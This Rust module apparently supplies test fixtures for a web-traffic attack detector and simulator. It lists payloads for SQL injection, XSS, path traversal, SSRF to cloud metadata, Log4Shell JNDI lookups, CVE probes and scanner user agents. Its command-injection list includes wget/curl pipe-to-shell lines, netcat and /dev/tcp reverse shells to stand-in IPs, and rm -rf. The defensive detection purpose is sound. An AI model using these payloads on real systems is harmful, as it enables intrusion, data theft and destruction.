//! Attack payloads per category and realistic benign values, for tests and for the traffic
//! simulator. Payloads are written as they arrive on the wire (some percent-encoded);
//! [`attacks`] and [`benign`] wrap them into requests.

use crate::event::Category;
use crate::record::{Format, Request};
use std::borrow::Cow;

mod benign;
pub use benign::{BENIGN_PATHS, BENIGN_REFERRERS, BENIGN_UAS, BENIGN_VALUES};

/// SQL injection payloads, as a query parameter value.
pub const SQLI: &[&str] = &[
    "' or '1'='1",
    "' or 1=1--",
    "' OR 1=1 -- -",
    "\" or \"\"=\"",
    "\" OR 1=1 #",
    "admin'--",
    "admin' #",
    "admin'/*",
    "1' or '1'='1' --",
    "') or ('a'='a",
    "')) or (('x'='x",
    "1 OR 1=1",
    "1 AND 1=2",
    "-1 OR 2>1",
    "1) or (1=1",
    "' or 'x'='x",
    "'or''='",
    "' || '1'='1",
    "' or true--",
    "' or username like '%admin%",
    "1' AND 1=(SELECT COUNT(*) FROM users)--",
    "' UNION SELECT NULL,NULL--",
    "1 UNION ALL SELECT username,password FROM users",
    "-1' union select 1,2,group_concat(table_name) from information_schema.tables--+",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "/*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2",
    "0 uNiOn sElEcT user(),version()",
    "1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "%2527%2520or%25201%253D1--",
    "1; DROP TABLE users",
    "1'; DROP TABLE users--",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1;SELECT pg_sleep(5)",
    "'; INSERT INTO users VALUES('x','y')--",
    "';shutdown--",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)#",
    "' or sleep(5)#",
    "1 or benchmark(10000000,MD5(1))#",
    "1' WAITFOR DELAY '0:0:5'--",
    "1) AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "if(now()=sysdate(),sleep(5),0)",
    "' AND EXTRACTVALUE(1,CONCAT(0x5c,version()))-- ",
    "1 AND updatexml(1,concat(0x7e,(select user())),1)",
    "' AND 1=CONVERT(int,@@version)--",
    "1' ORDER BY 3--+",
    "1 ORDER BY 10",
    "' HAVING 1=1 --",
    "' GROUP BY users.id HAVING 1=1--",
    "1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>116--",
    "1 procedure analyse()",
    "%27%20OR%20%271%27%3D%271",
    "1%20AND%201%3D1",
    "' AnD 'a'<>'b",
    "x' AND 1=0 UNION SELECT @@datadir--",
];

/// Cross-site scripting payloads, as a query parameter value.
pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT>alert(document.cookie)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "\"><script>alert(1)</script>",
    "'><script>alert(String.fromCharCode(88,83,83))</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert('xss')>",
    "<img/src=x onerror=prompt(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<div style=\"width:expression(alert(1))\">",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "java%09script:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "';alert(1)//",
    "\";alert(1)//",
    "'-alert(1)-'",
    "'+prompt`1`+'",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Csvg%2Fonload%3Dalert(1)%3E",
    "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
    "%26%2360%3Bimg src=x onerror=alert(1)%26%2362%3B",
    "{{constructor.constructor('alert(1)')()}}",
    "<xss onmouseover=alert(1)>hover</xss>",
    "<scr%00ipt>alert(1)</scr%00ipt>",
];

/// Path traversal attempts: full paths (as requested, still encoded).
pub const TRAVERSAL_PATHS: &[&str] = &[
    "/../../../../etc/passwd",
    "/static/../../../etc/shadow",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/%252e%252e/%252e%252e/etc/passwd",
    "/%%32%65%%32%65/",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd",
    "/%e0%80%ae%e0%80%ae/etc/passwd",
    "/..%5c..%5c..%5cwindows%5cwin.ini",
    "/..%255c..%255cboot.ini",
    "/images/..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd",
    "/console/css/%252e%252e%252fconsole.portal",
    "/app/..;/manager/html",
    "/%u002e%u002e/%u002e%u002e/etc/passwd",
    "/..\\..\\..\\windows\\system.ini",
    "/static/%2e%2e%5c%2e%2e%5cweb.config",
];

/// Path traversal attempts: query parameter values.
pub const TRAVERSAL_VALUES: &[&str] = &[
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..\\..\\..\\boot.ini",
    "../../../../etc/passwd%00.png",
    "../../../proc/self/environ",
    "../.env",
];

/// Command injection payloads, as query values.
pub const CMDI: &[&str] = &[
    ";wget http://203.0.113.5/x.sh",
    "cd+/tmp;rm+-rf+*;wget+a.example.tk/jaws;sh+/tmp/jaws",
    "127.0.0.1;cat /etc/passwd",
    "127.0.0.1 | id",
    "127.0.0.1 && whoami",
    "x||curl http://203.0.113.5/p|sh",
    "`id`",
    "`whoami`",
    "$(id)",
    "$(curl http://attacker.example/x)",
    ";ping%20%24%28whoami%29.test.com",
    "a;ls -la",
    "1;sleep 10",
    "%0aid",
    "%0Acat%20/etc/passwd",
    ";${IFS}cat${IFS}/etc/passwd",
    "|nc -e /bin/sh 203.0.113.5 4444",
    ";busybox wget http://x/mozi.m",
    "; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "|powershell -enc SQBFAFgA",
    "& ping -n 5 127.0.0.1 &",
    ";uname -a;",
    "';python -c 'import os'",
];

/// Log4Shell JNDI lookups, as user agents (also used in query values).
pub const JNDI: &[&str] = &[
    "${jndi:ldap://203.0.113.5:1389/a}",
    "${jndi:ldap://${java:version}.domain/a}",
    "${jndi:rmi://x.example/o}",
    "${jndi:dns://x.example/o}",
    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}",
    "${j${k8s:k5:-ND}i:ldap://x.example/a}",
    "${${upper:j}ndi:ldap://x.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
    "${${lower:jndi}:${lower:rmi}://x.example/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
    "Mozilla/5.0 ${jndi:ldap://x.example/a}",
    "${jndi:ldaps://x.example/a}",
    "${jndi:iiop://x.example/a}",
    "${jndi:nis://x.example/a}",
    "${jndi:corba://x.example/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    "${${sys:foo:-j}ndi:ldap://x.example/a}",
    "${jnd${upper:ı}:ldap://x.example/a}",
];

/// SSRF payloads, as query values (`url=`, `dest=`, …).
pub const SSRF: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials",
    "http://100.100.100.200/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stat",
    "file:///etc/passwd",
    "http%253A%252F%252F169.254.169.254%252F",
    "https://evil.example@169.254.169.254/",
    "http://metadata.google.internal./computeMetadata/v1/",
    "HTTP://169.254.169.254/LATEST/META-DATA/",
];

/// Sensitive files: paths.
pub const SENSITIVE_PATHS: &[&str] = &[
    "/.env",
    "/.env.production",
    "/api/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.htpasswd",
    "/.aws/credentials",
    "/.awscfg",
    "/.ssh/id_rsa",
    "/id_rsa",
    "/home/user/.ssh/id_ed25519",
    "/wp-config.php",
    "/wp-config.php.bak",
    "/wp-config.old",
    "/config.php.bak",
    "/index.php~",
    "/.index.php.swp",
    "/backup.sql",
    "/dump.sql.gz",
    "/backup.zip",
    "/www.tar.gz",
    "/site.rar",
    "/etc/passwd",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/WEB-INF/web.xml",
    "/.docker/config.json",
];

/// Admin panels and known-CVE probes: path with optional `?query`.
pub const PROBES: &[&str] = &[
    "/phpmyadmin/",
    "/phpMyAdmin/scripts/setup.php",
    "/pma/index.php",
    "/wp-login.php",
    "/wp-login.php?action=register",
    "/wordpress/wp-admin/",
    "/administrator/index.php",
    "/cgi-bin/luci",
    "/cgi-bin/login.cgi",
    "/remote_agent.php?action=polldata&poller_id=1",
    "/index.action?redirect:%24%7B%28%23a%3D1%29%7D",
    "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/",
    "/login.action?x=%25%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "/actuator/env",
    "/actuator/heapdump",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/GponForm/diag_Form?images/",
    "/shell?cd+/tmp;rm+-rf+*",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/_ignition/execute-solution",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
    "/manager/html",
    "/solr/admin/cores?action=STATUS",
    "/autodiscover/autodiscover.json?@zdi/Powershell",
    "/mgmt/tm/util/bash",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/php-cgi/php-cgi.exe?%add+allow_url_include%3d1",
];

/// Scanner and attack-tool user agents.
pub const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21 Acunetix-Product",
    "Mozilla/5.0 (compatible; Nessus)",
    "Nessus SOAP",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "ffuf/2.0",
    "Mozilla/5.0 (Hydra)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) w3af.org",
    "Mozilla/5.0 (compatible; Netsparker)",
    "Arachni/v1.5.1",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Zmeu)",
    "feroxbuster/2.10.0",
    "WhatWeb/0.5.5",
];

/// Percent-encode what cannot appear raw in a query value: space, `&`, `#`. Existing
/// `%XX` escapes are kept, so already-encoded payloads stay as they are.
pub fn encode_value(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            ' ' => out.push_str("%20"),
            '&' => out.push_str("%26"),
            '#' => out.push_str("%23"),
            '\t' => out.push_str("%09"),
            '\n' => out.push_str("%0A"),
            _ => out.push(c),
        }
    }
    out
}

const BASE_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

fn req(path: &str, query: Option<String>, ua: &str, referrer: Option<&str>) -> Request<'static> {
    Request {
        format: Format::Combined,
        method: Some(Cow::Borrowed("GET")),
        path: Some(Cow::Owned(path.to_string())),
        query: query.map(Cow::Owned),
        protocol: Some(Cow::Borrowed("HTTP/1.1")),
        status: Some(200),
        user_agent: Some(Cow::Owned(ua.to_string())),
        referrer: referrer.map(|r| Cow::Owned(r.to_string())),
        ..Request::default()
    }
}

/// Split `path?query`.
fn path_query(s: &str) -> (&str, Option<String>) {
    match s.split_once('?') {
        Some((p, q)) => (p, Some(q.to_string())),
        None => (s, None),
    }
}

/// Every attack payload as a request, with the category it should be caught in.
pub fn attacks() -> Vec<(Category, Request<'static>)> {
    let mut v = Vec::new();
    let q = |p: &str| Some(format!("id={}", encode_value(p)));
    for p in SQLI {
        v.push((Category::Sqli, req("/item", q(p), BASE_UA, None)));
    }
    for p in XSS {
        v.push((Category::Xss, req("/search", q(p), BASE_UA, None)));
    }
    for p in TRAVERSAL_PATHS {
        v.push((Category::Traversal, req(p, None, BASE_UA, None)));
    }
    for p in TRAVERSAL_VALUES {
        v.push((Category::Traversal, req("/download", q(p), BASE_UA, None)));
    }
    for p in CMDI {
        v.push((
            Category::CommandInjection,
            req("/ping", q(p), BASE_UA, None),
        ));
    }
    for p in JNDI {
        v.push((Category::Jndi, req("/", None, p, None)));
    }
    for p in SSRF {
        v.push((
            Category::Ssrf,
            req(
                "/fetch",
                Some(format!("url={}", encode_value(p))),
                BASE_UA,
                None,
            ),
        ));
    }
    for p in SENSITIVE_PATHS {
        v.push((Category::SensitiveFile, req(p, None, BASE_UA, None)));
    }
    for p in PROBES {
        let (path, query) = path_query(p);
        v.push((Category::Probe, req(path, query, BASE_UA, None)));
    }
    for p in SCANNER_UAS {
        v.push((Category::ScannerAgent, req("/", None, p, None)));
    }
    v
}

/// Every benign value, path, user agent and referrer as a request (one varied field each).
pub fn benign() -> Vec<Request<'static>> {
    let mut v = Vec::new();
    for (i, s) in BENIGN_VALUES.iter().enumerate() {
        let key = ["q", "name", "comment", "filter"][i % 4];
        v.push(req(
            "/search",
            Some(format!("{key}={}", encode_value(s))),
            BASE_UA,
            None,
        ));
    }
    for p in BENIGN_PATHS {
        let (path, query) = path_query(p);
        v.push(req(path, query, BASE_UA, None));
    }
    for ua in BENIGN_UAS {
        v.push(req("/index.html", None, ua, None));
    }
    for r in BENIGN_REFERRERS {
        v.push(req("/products/12345", None, BASE_UA, Some(r)));
    }
    v
}
